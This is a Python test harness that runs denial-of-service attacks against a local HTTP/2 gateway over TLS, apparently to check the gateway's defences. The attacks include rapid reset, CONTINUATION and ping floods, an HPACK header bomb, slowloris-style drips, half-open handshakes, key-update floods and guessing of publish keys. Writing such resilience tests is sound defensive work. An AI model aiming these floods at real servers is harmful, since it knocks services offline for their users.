"""One attacker process: attacker.py ATTACK PORT SECONDS SCALE [RATE HOLD] attacks a gateway over TLS, then prints what it did
as JSON.

It comes from 127.0.0.2, so that limits per address are its own. Options and topics are those of
test_attacks.py. What it sends is prepared before: it spends its time on sending, not on making frames. With a RATE it sends so
many octets a second at most; afterwards it keeps for HOLD seconds what it has open.
"""

import contextlib
import itertools
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time

import clients

from lib.key_updates import RECORD_OCTETS, KeyUpdates

SOURCE = "127.0.0.2"
HANDSHAKE_OCTETS = 700  # that a TLS client sends before its first request
PIECE = 4096  # what is sent at once by who has a rate
KEY = "test-key"
TOPIC = "bench-%06x"  # what tw-load calls its topics
TOPICS = 10
RECEIVE = 1 << 18
CONNECT_TIMEOUT_S = 5
STREAM_IDS = range(1, 80001, 2)  # of one connection of a flood, then comes the next
WINDOW = clients.window_update(0, 0x7FFFFFFF - 65535)
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", " ")] = function
    return function


class Attacker:
    """The process's account, and what all attacks do."""

    def __init__(self, port, seconds, scale, rate=0):
        self.port, self.scale, self.rate = port, scale, rate
        self.seconds, self.began, self.until = seconds, None, None
        self.octets = 0  # that were sent, without what TLS adds to requests
        self.sent = 0  # requests, frames, octets or handshakes: the attack says what
        self.connections = 0
        self.refused = 0  # connections that the gateway did not take, or closed
        self.open = []

    def goes_on(self):
        """Whether there is time left. It begins with the first question, when all that is sent has been prepared."""
        if self.began is None:
            self.began = time.monotonic()
            self.until = self.began + self.seconds
        return time.monotonic() < self.until

    def pay(self, octets):
        """Counts what was sent, and waits until the rate allows for more."""
        self.octets += octets
        if self.rate > 0:
            due = self.began + self.octets / self.rate
            time.sleep(max(0.0, min(due, self.until) - time.monotonic()))

    def _meter(self, client):
        """Has the client pay for everything that it sends."""
        send = client.send

        def paid(*parts, **options):
            data = b"".join(parts)
            for at in range(0, len(data), PIECE if self.rate > 0 else len(data) or 1):
                if not self.goes_on():
                    return
                piece = data[at:at + PIECE] if self.rate > 0 else data
                send(piece, **options)
                self.pay(len(piece))

        client.send = paid
        return client

    def connect(self, kind=clients.Http2, **options):
        """A connection, or None when the gateway does not want it."""
        self.connections += 1
        try:
            self.pay(HANDSHAKE_OCTETS)
            return self._meter(kind(self.port, tls=True, source=SOURCE, **options))
        except (OSError, AssertionError, TypeError, AttributeError):
            self.refused += 1
            return None

    def flood(self, batches, units, **settings):
        """Sends batch after batch, each of so many units, and reads what comes; anew when closed or done."""
        while self.goes_on():
            client = self.connect(**settings)
            if client is None:
                continue
            for batch in itertools.chain([WINDOW], batches):
                if not self.goes_on():
                    break
                if not self._pour(client, batch):
                    self.refused += 1
                    break
                self.sent += units if batch is not WINDOW else 0
            client.reset()

    def _pour(self, client, data):
        """Sends all of it while it reads; False when the gateway has closed or takes nothing for a second."""
        sock, rest = client.socket, memoryview(data)
        sock.setblocking(False)
        stalled_at = time.monotonic() + 1
        while rest and self.goes_on():
            try:
                with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
                    while True:
                        if not sock.recv(RECEIVE):
                            return False
                with contextlib.suppress(ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    taken = sock.send(rest[:PIECE] if self.rate > 0 else rest)
                    rest = rest[taken:]
                    self.pay(taken)
                    stalled_at = time.monotonic() + 1
                    continue
            except OSError:
                return False
            if time.monotonic() > stalled_at:
                return False
            select.select([sock], [sock], [], 0.1)
        return True

    def gather(self, count, **options):
        """Up to so many connections at once, kept in `open`; stops when the time is half over."""
        half = time.monotonic() + self.seconds / 2
        while self.goes_on() and len(self.open) < count and time.monotonic() < half:
            client = self.connect(**options)
            if client is not None:
                self.open.append(client)
        return list(self.open)

    def drip(self, pause_s):
        """Sends on every open connection its next small piece, again and again, slowly."""
        while self.goes_on():
            for client in list(self.open):
                if not self.goes_on():
                    break
                try:
                    client.send(client.piece, timeout=0.1)
                    self.sent += 1
                except OSError:
                    self.refused += 1
                    self.open.remove(client)
            time.sleep(min(pause_s, max(0.0, self.until - time.monotonic())))

    def hold(self):
        """Keeps what is open until the end without reading a byte of it."""
        time.sleep(max(0.0, self.until - time.monotonic()))


def stream_request(number, **fields):
    return clients.request("/v1/stream", x_sse_topic=TOPIC % (number % TOPICS), **fields)


def per_stream(make, batch=200):
    """Batches of what `make(stream)` gives, over fresh streams of one connection."""
    pieces = [make(stream) for stream in STREAM_IDS]
    return [b"".join(pieces[i:i + batch]) for i in range(0, len(pieces), batch)], batch


def forever(batch):
    return itertools.repeat(batch)


@attack
def rapid_reset(self):
    """Streams that are opened and reset in the same packet."""
    block = stream_request(0)
    self.flood(*per_stream(lambda stream: clients.headers(stream, block) + clients.rst_stream(stream)))


@attack
def made_you_reset(self):
    """Streams that the gateway has to reset, for a window update of zero."""
    block = stream_request(0)
    self.flood(*per_stream(lambda stream: clients.headers(stream, block) + clients.window_update(stream, 0)))


@attack
def ping_flood(self):
    self.flood(forever(clients.ping() * 20000), 20000)


@attack
def settings_flood(self):
    pair = clients.settings() + clients.settings(window=65535, header_table=4096)
    self.flood(forever(pair * 10000), 20000)


@attack
def continuation_flood(self):
    """A header block that never ends."""
    field = clients.literal(b"x-filler", b"v" * 1000) * 16
    start = clients.headers(1, stream_request(0), end_headers=False)
    more = clients.frame(clients.CONTINUATION, 0, 1, field[:16384])
    self.flood([start] + [more * 8] * 1000, 8)


@attack
def header_bomb(self):
    """One large field in HPACK's table, and thousands of references of one octet to it."""
    first = stream_request(0) + clients.literal(b"x-bomb", b"v" * 3900, indexed=True)
    block = first + b"\xbe" * (16384 - len(first))
    later = stream_request(0) + b"\xbe" * 16000
    self.flood(*per_stream(lambda stream: clients.headers(stream, block if stream == 1 else later), 1))


@attack
def window_zero(self):
    """Event streams and pages that may not send one octet."""
    for client in self.gather(10 * self.scale, window=0):
        requests = [clients.headers(2 * i + 1, stream_request(i) if i % 10 else clients.request("/admin/"))
                    for i in range(500)]
        with contextlib.suppress(OSError):
            client.send(*requests)
        self.sent += len(requests)
    self.hold()


@attack
def unread_socket(self):
    """Event streams with the largest windows, on sockets that nobody reads."""
    for client in self.gather(10 * self.scale, window=0x7FFFFFFF, receive_buffer=4096):
        requests = [clients.headers(2 * i + 1, stream_request(i)) for i in range(500)]
        with contextlib.suppress(OSError):
            client.send(WINDOW, *requests)
        self.sent += len(requests)
    self.hold()


def _half_and_half(self, first_h1, first_h2, next_h1, next_h2):
    """Connections of both protocols that send a beginning and then one small piece after the other."""
    wanted = 100 * self.scale
    for client in self.gather(wanted, kind=clients.Http1):
        client.piece = next_h1
        with contextlib.suppress(OSError):
            client.send(first_h1)
    for _ in range(wanted):
        client = self.connect()
        if client is None or not self.goes_on():
            continue
        client.piece = next_h2
        self.open.append(client)
        with contextlib.suppress(OSError):
            client.send(first_h2)
    self.drip(0.2)


@attack
def slow_headers(self):
    piece = clients.frame(clients.CONTINUATION, 0, 1, b"")
    _half_and_half(self, b"GET /v1/stream HTTP/1.1\r\nhost: localhost\r\nx-slow: ",
                   clients.headers(1, stream_request(0), end_headers=False), b"v", piece)


@attack
def slow_body(self):
    """Bodies of publishers (their key is right) that come octet by octet."""
    fields = {"authorization": f"Bearer {KEY}", "x_sse_topic": TOPIC % 0, "x_sse_id": "slow"}
    head = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in fields.items())
    block = clients.request("/v1/publish", method="POST", content_length=100000, **fields)
    _half_and_half(self, f"POST /v1/publish HTTP/1.1\r\nhost: localhost\r\ncontent-length: 100000\r\n{head}\r\n"
                   .encode(), clients.headers(1, block, end_stream=False), b"v",
                   clients.frame(clients.DATA, 0, 1, b"v"))


@attack
def empty_frames(self):
    """DATA without data, fields without end, priorities of nothing: work for the gateway, none for the peer."""
    block = clients.request("/v1/publish", method="POST", authorization=f"Bearer {KEY}", x_sse_topic=TOPIC % 0,
                            x_sse_id="empty")
    data = clients.headers(1, block, end_stream=False) + clients.frame(clients.DATA, 0, 1) * 20000
    fields = clients.headers(3, b"", end_headers=False) + clients.frame(clients.CONTINUATION, 0, 3) * 20000
    priority = clients.frame(clients.PRIORITY, 0, 5, struct.pack(">IB", 0, 1)) * 20000
    self.flood([data, priority, fields], 20000)


def client_hello():
    """The first flight of a TLS client, as it is sent for real."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = clients.tls_context("h2").wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


@attack
def half_handshakes(self):
    """TLS handshakes of which every one stops after the first flight: all open at once, and from ten addresses."""
    hello, wanted, kept = client_hello(), 10000, []
    for number in range(wanted):
        sock = socket.socket()
        sock.bind((f"127.0.0.{2 + number % 10}", 0))
        sock.settimeout(CONNECT_TIMEOUT_S)
        self.connections += 1
        try:
            if not self.goes_on():
                break
            sock.connect(("127.0.0.1", self.port))
            sock.send(hello)
            self.pay(len(hello))
            kept.append(sock)
            self.sent += 1
        except OSError:
            self.refused += 1
            sock.close()
    self.hold()
    self.refused += sum(_is_reset(sock) for sock in kept)


def _is_reset(sock):
    sock.setblocking(False)
    try:
        while True:
            if not sock.recv(RECEIVE):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


@attack
def wrong_keys(self):
    """Publishes whose keys are guesses."""
    body = b"v" * 100

    def publish(stream):
        block = clients.request("/v1/publish", method="POST", authorization=f"Bearer guess-{stream:06d}",
                                x_sse_topic=TOPIC % 0, x_sse_id=stream)
        return clients.headers(stream, block, end_stream=False) + clients.frame(
            clients.DATA, clients.END_STREAM, stream, body)

    self.flood(*per_stream(publish))


def _from_table(path, **fields):
    """Two header blocks for the same request: the first fills HPACK's table, the second refers to it."""
    pseudo = {b":path": path.encode(), b":authority": b"localhost"}
    fields = {**pseudo, **{name.replace("_", "-").encode(): value.encode() for name, value in fields.items()}}
    first = b"\x82\x87" + b"".join(clients.literal(name, value, indexed=True) for name, value in fields.items())
    return first, b"\x82\x87" + bytes(0xbd + len(fields) - n for n in range(len(fields)))


def _flood_from_table(self, path, **fields):
    """The cheapest form of a request, again and again."""
    first, later = _from_table(path, **fields)
    self.flood(*per_stream(lambda stream: clients.headers(stream, first if stream == 1 else later)))


@attack
def requests(self):
    """Requests that are answered with an error, from HPACK's table: 13 octets each."""
    _flood_from_table(self, "/nope")


@attack
def pages(self):
    """The largest answer that anyone gets."""
    _flood_from_table(self, "/openapi.json")


@attack
def topics_again_and_again(self):
    """One HPACK octet stands for a field with 1,900 topics."""
    first, later = _from_table("/v1/stream", x_sse_topic="a," * 1900 + "a")
    block = later + b"\xbe" * 50
    self.flood(*per_stream(lambda stream: clients.headers(stream, first if stream == 1 else block)))


@attack
def held_answers(self):
    """Requests with a hundred fields from HPACK's table, whose answers have no window."""
    pseudo, _ = _from_table("/healthz")
    first = pseudo + clients.literal(b"x", b"y", indexed=True)
    block = b"\x82\x87\xc0\xbf" + b"\xbe" * 90
    for client in self.gather(4 * self.scale, window=0):
        with contextlib.suppress(OSError):
            client.send(clients.headers(1, first), *(clients.headers(2 * n + 1, block) for n in range(1, 1000)))
        self.sent += 1000
    self.hold()


@attack
def unended_requests(self):
    """Requests for streams, from HPACK's table, whose end does not come."""
    first, later = _from_table("/v1/stream", x_sse_topic=TOPIC % 0)
    for client in self.gather(10 * self.scale):
        with contextlib.suppress(OSError):
            client.send(*(clients.headers(2 * n + 1, later if n else first, end_stream=False) for n in range(900)))
        self.sent += 900
    self.hold()


@attack
def resumes_of_nothing(self):
    """Streams that resume from an id that nobody has, and are reset."""
    first, later = _from_table("/v1/stream", x_sse_topic=",".join(TOPIC % n for n in range(TOPICS)),
                               last_event_id="nobody has this")
    self.flood(*per_stream(lambda stream: clients.headers(stream, first if stream == 1 else later) +
                           clients.rst_stream(stream)))


@attack
def streams_of_own_topics(self):
    """Event streams that stay open, each on a topic of its own."""
    fields, _ = _from_table("/v1/stream")
    for client in self.gather(10 * self.scale):
        blocks = (clients.headers(2 * n + 1, (fields if n == 0 else b"\x82\x87\xbf\xbe") + clients.literal(
            b"x-sse-topic", b"%x-%x" % (id(client) % 65536, n))) for n in range(900))
        with contextlib.suppress(OSError):
            client.send(WINDOW, *blocks)
        self.sent += 900
    self.hold()


@attack
def window_by_octets(self):
    """An event stream whose window grows octet by octet, so that each event takes hundreds of frames."""
    updates = clients.window_update(1, 1) * 2000

    def batches():
        yield clients.headers(1, stream_request(0))
        yield from forever(updates)

    self.flood(batches(), 2000, window=0)


@attack
def http1_requests(self):
    """Requests over HTTP/1.1, as many as fit, each answered with an error."""
    request = b"GET /x HTTP/1.1\r\nhost:g\r\n\r\n"
    while self.goes_on():
        for client in self.gather(20 * self.scale, kind=clients.Http1) or [None]:
            if client is None or not self._pour(client, request * 500):
                self.refused += 1
            else:
                self.sent += 500
        while self.open:
            self.open.pop().reset()


@attack
def idle_connections(self):
    """Connections that have had an answer, and ask for nothing more."""
    for client in self.gather(2000 * self.scale, kind=clients.Http1):
        with contextlib.suppress(OSError):
            client.send(b"GET /x HTTP/1.1\r\nhost:g\r\n\r\n")
        self.sent += 1
    self.hold()


@attack
def silent_connects(self):
    """TCP connections that never say anything."""
    while self.goes_on() and len(self.open) < 5000:
        sock = socket.socket()
        self.open.append(sock)
        sock.bind((SOURCE, 0))
        sock.settimeout(CONNECT_TIMEOUT_S)
        self.connections += 1
        try:
            sock.connect(("127.0.0.1", self.port))
            self.sent += 1
        except OSError:
            self.refused += 1
        self.pay(60)  # of IP and TCP
    self.hold()
    self.refused += sum(_is_reset(sock) for sock in self.open)


@attack
def key_updates(self):
    """Changes of keys (TLS 1.3), which carry nothing."""
    while self.goes_on():
        self.connections += 1
        with contextlib.suppress(OSError, AssertionError), socket.create_connection(
                ("127.0.0.1", self.port), CONNECT_TIMEOUT_S, (SOURCE, 0)) as sock:
            self.pay(HANDSHAKE_OCTETS)
            tls = KeyUpdates(sock)
            sock.sendall(tls.written(clients.PREFACE + clients.settings()))
            while self.goes_on():
                batch = tls.updates(PIECE // RECORD_OCTETS)
                sock.sendall(batch)
                self.pay(len(batch))
                self.sent += PIECE // RECORD_OCTETS
        self.refused += self.goes_on()


@attack
def handshakes(self):
    """Whole TLS handshakes, and nothing afterwards."""
    while self.goes_on():
        client = self.connect(clients.Http1)
        if client is not None:
            self.sent += 1
            client.reset()


def main():
    name, port, seconds, scale = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    rate, hold_s = (float(text) for text in sys.argv[5:7] or ("0", "0"))
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, max(20000, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    attacker = Attacker(port, seconds, scale, rate)
    ATTACKS[name](attacker)
    print(json.dumps({"sent": attacker.sent, "octets": attacker.octets, "connections": attacker.connections,
                      "refused": attacker.refused}), flush=True)
    time.sleep(hold_s)


if __name__ == "__main__":
    main()
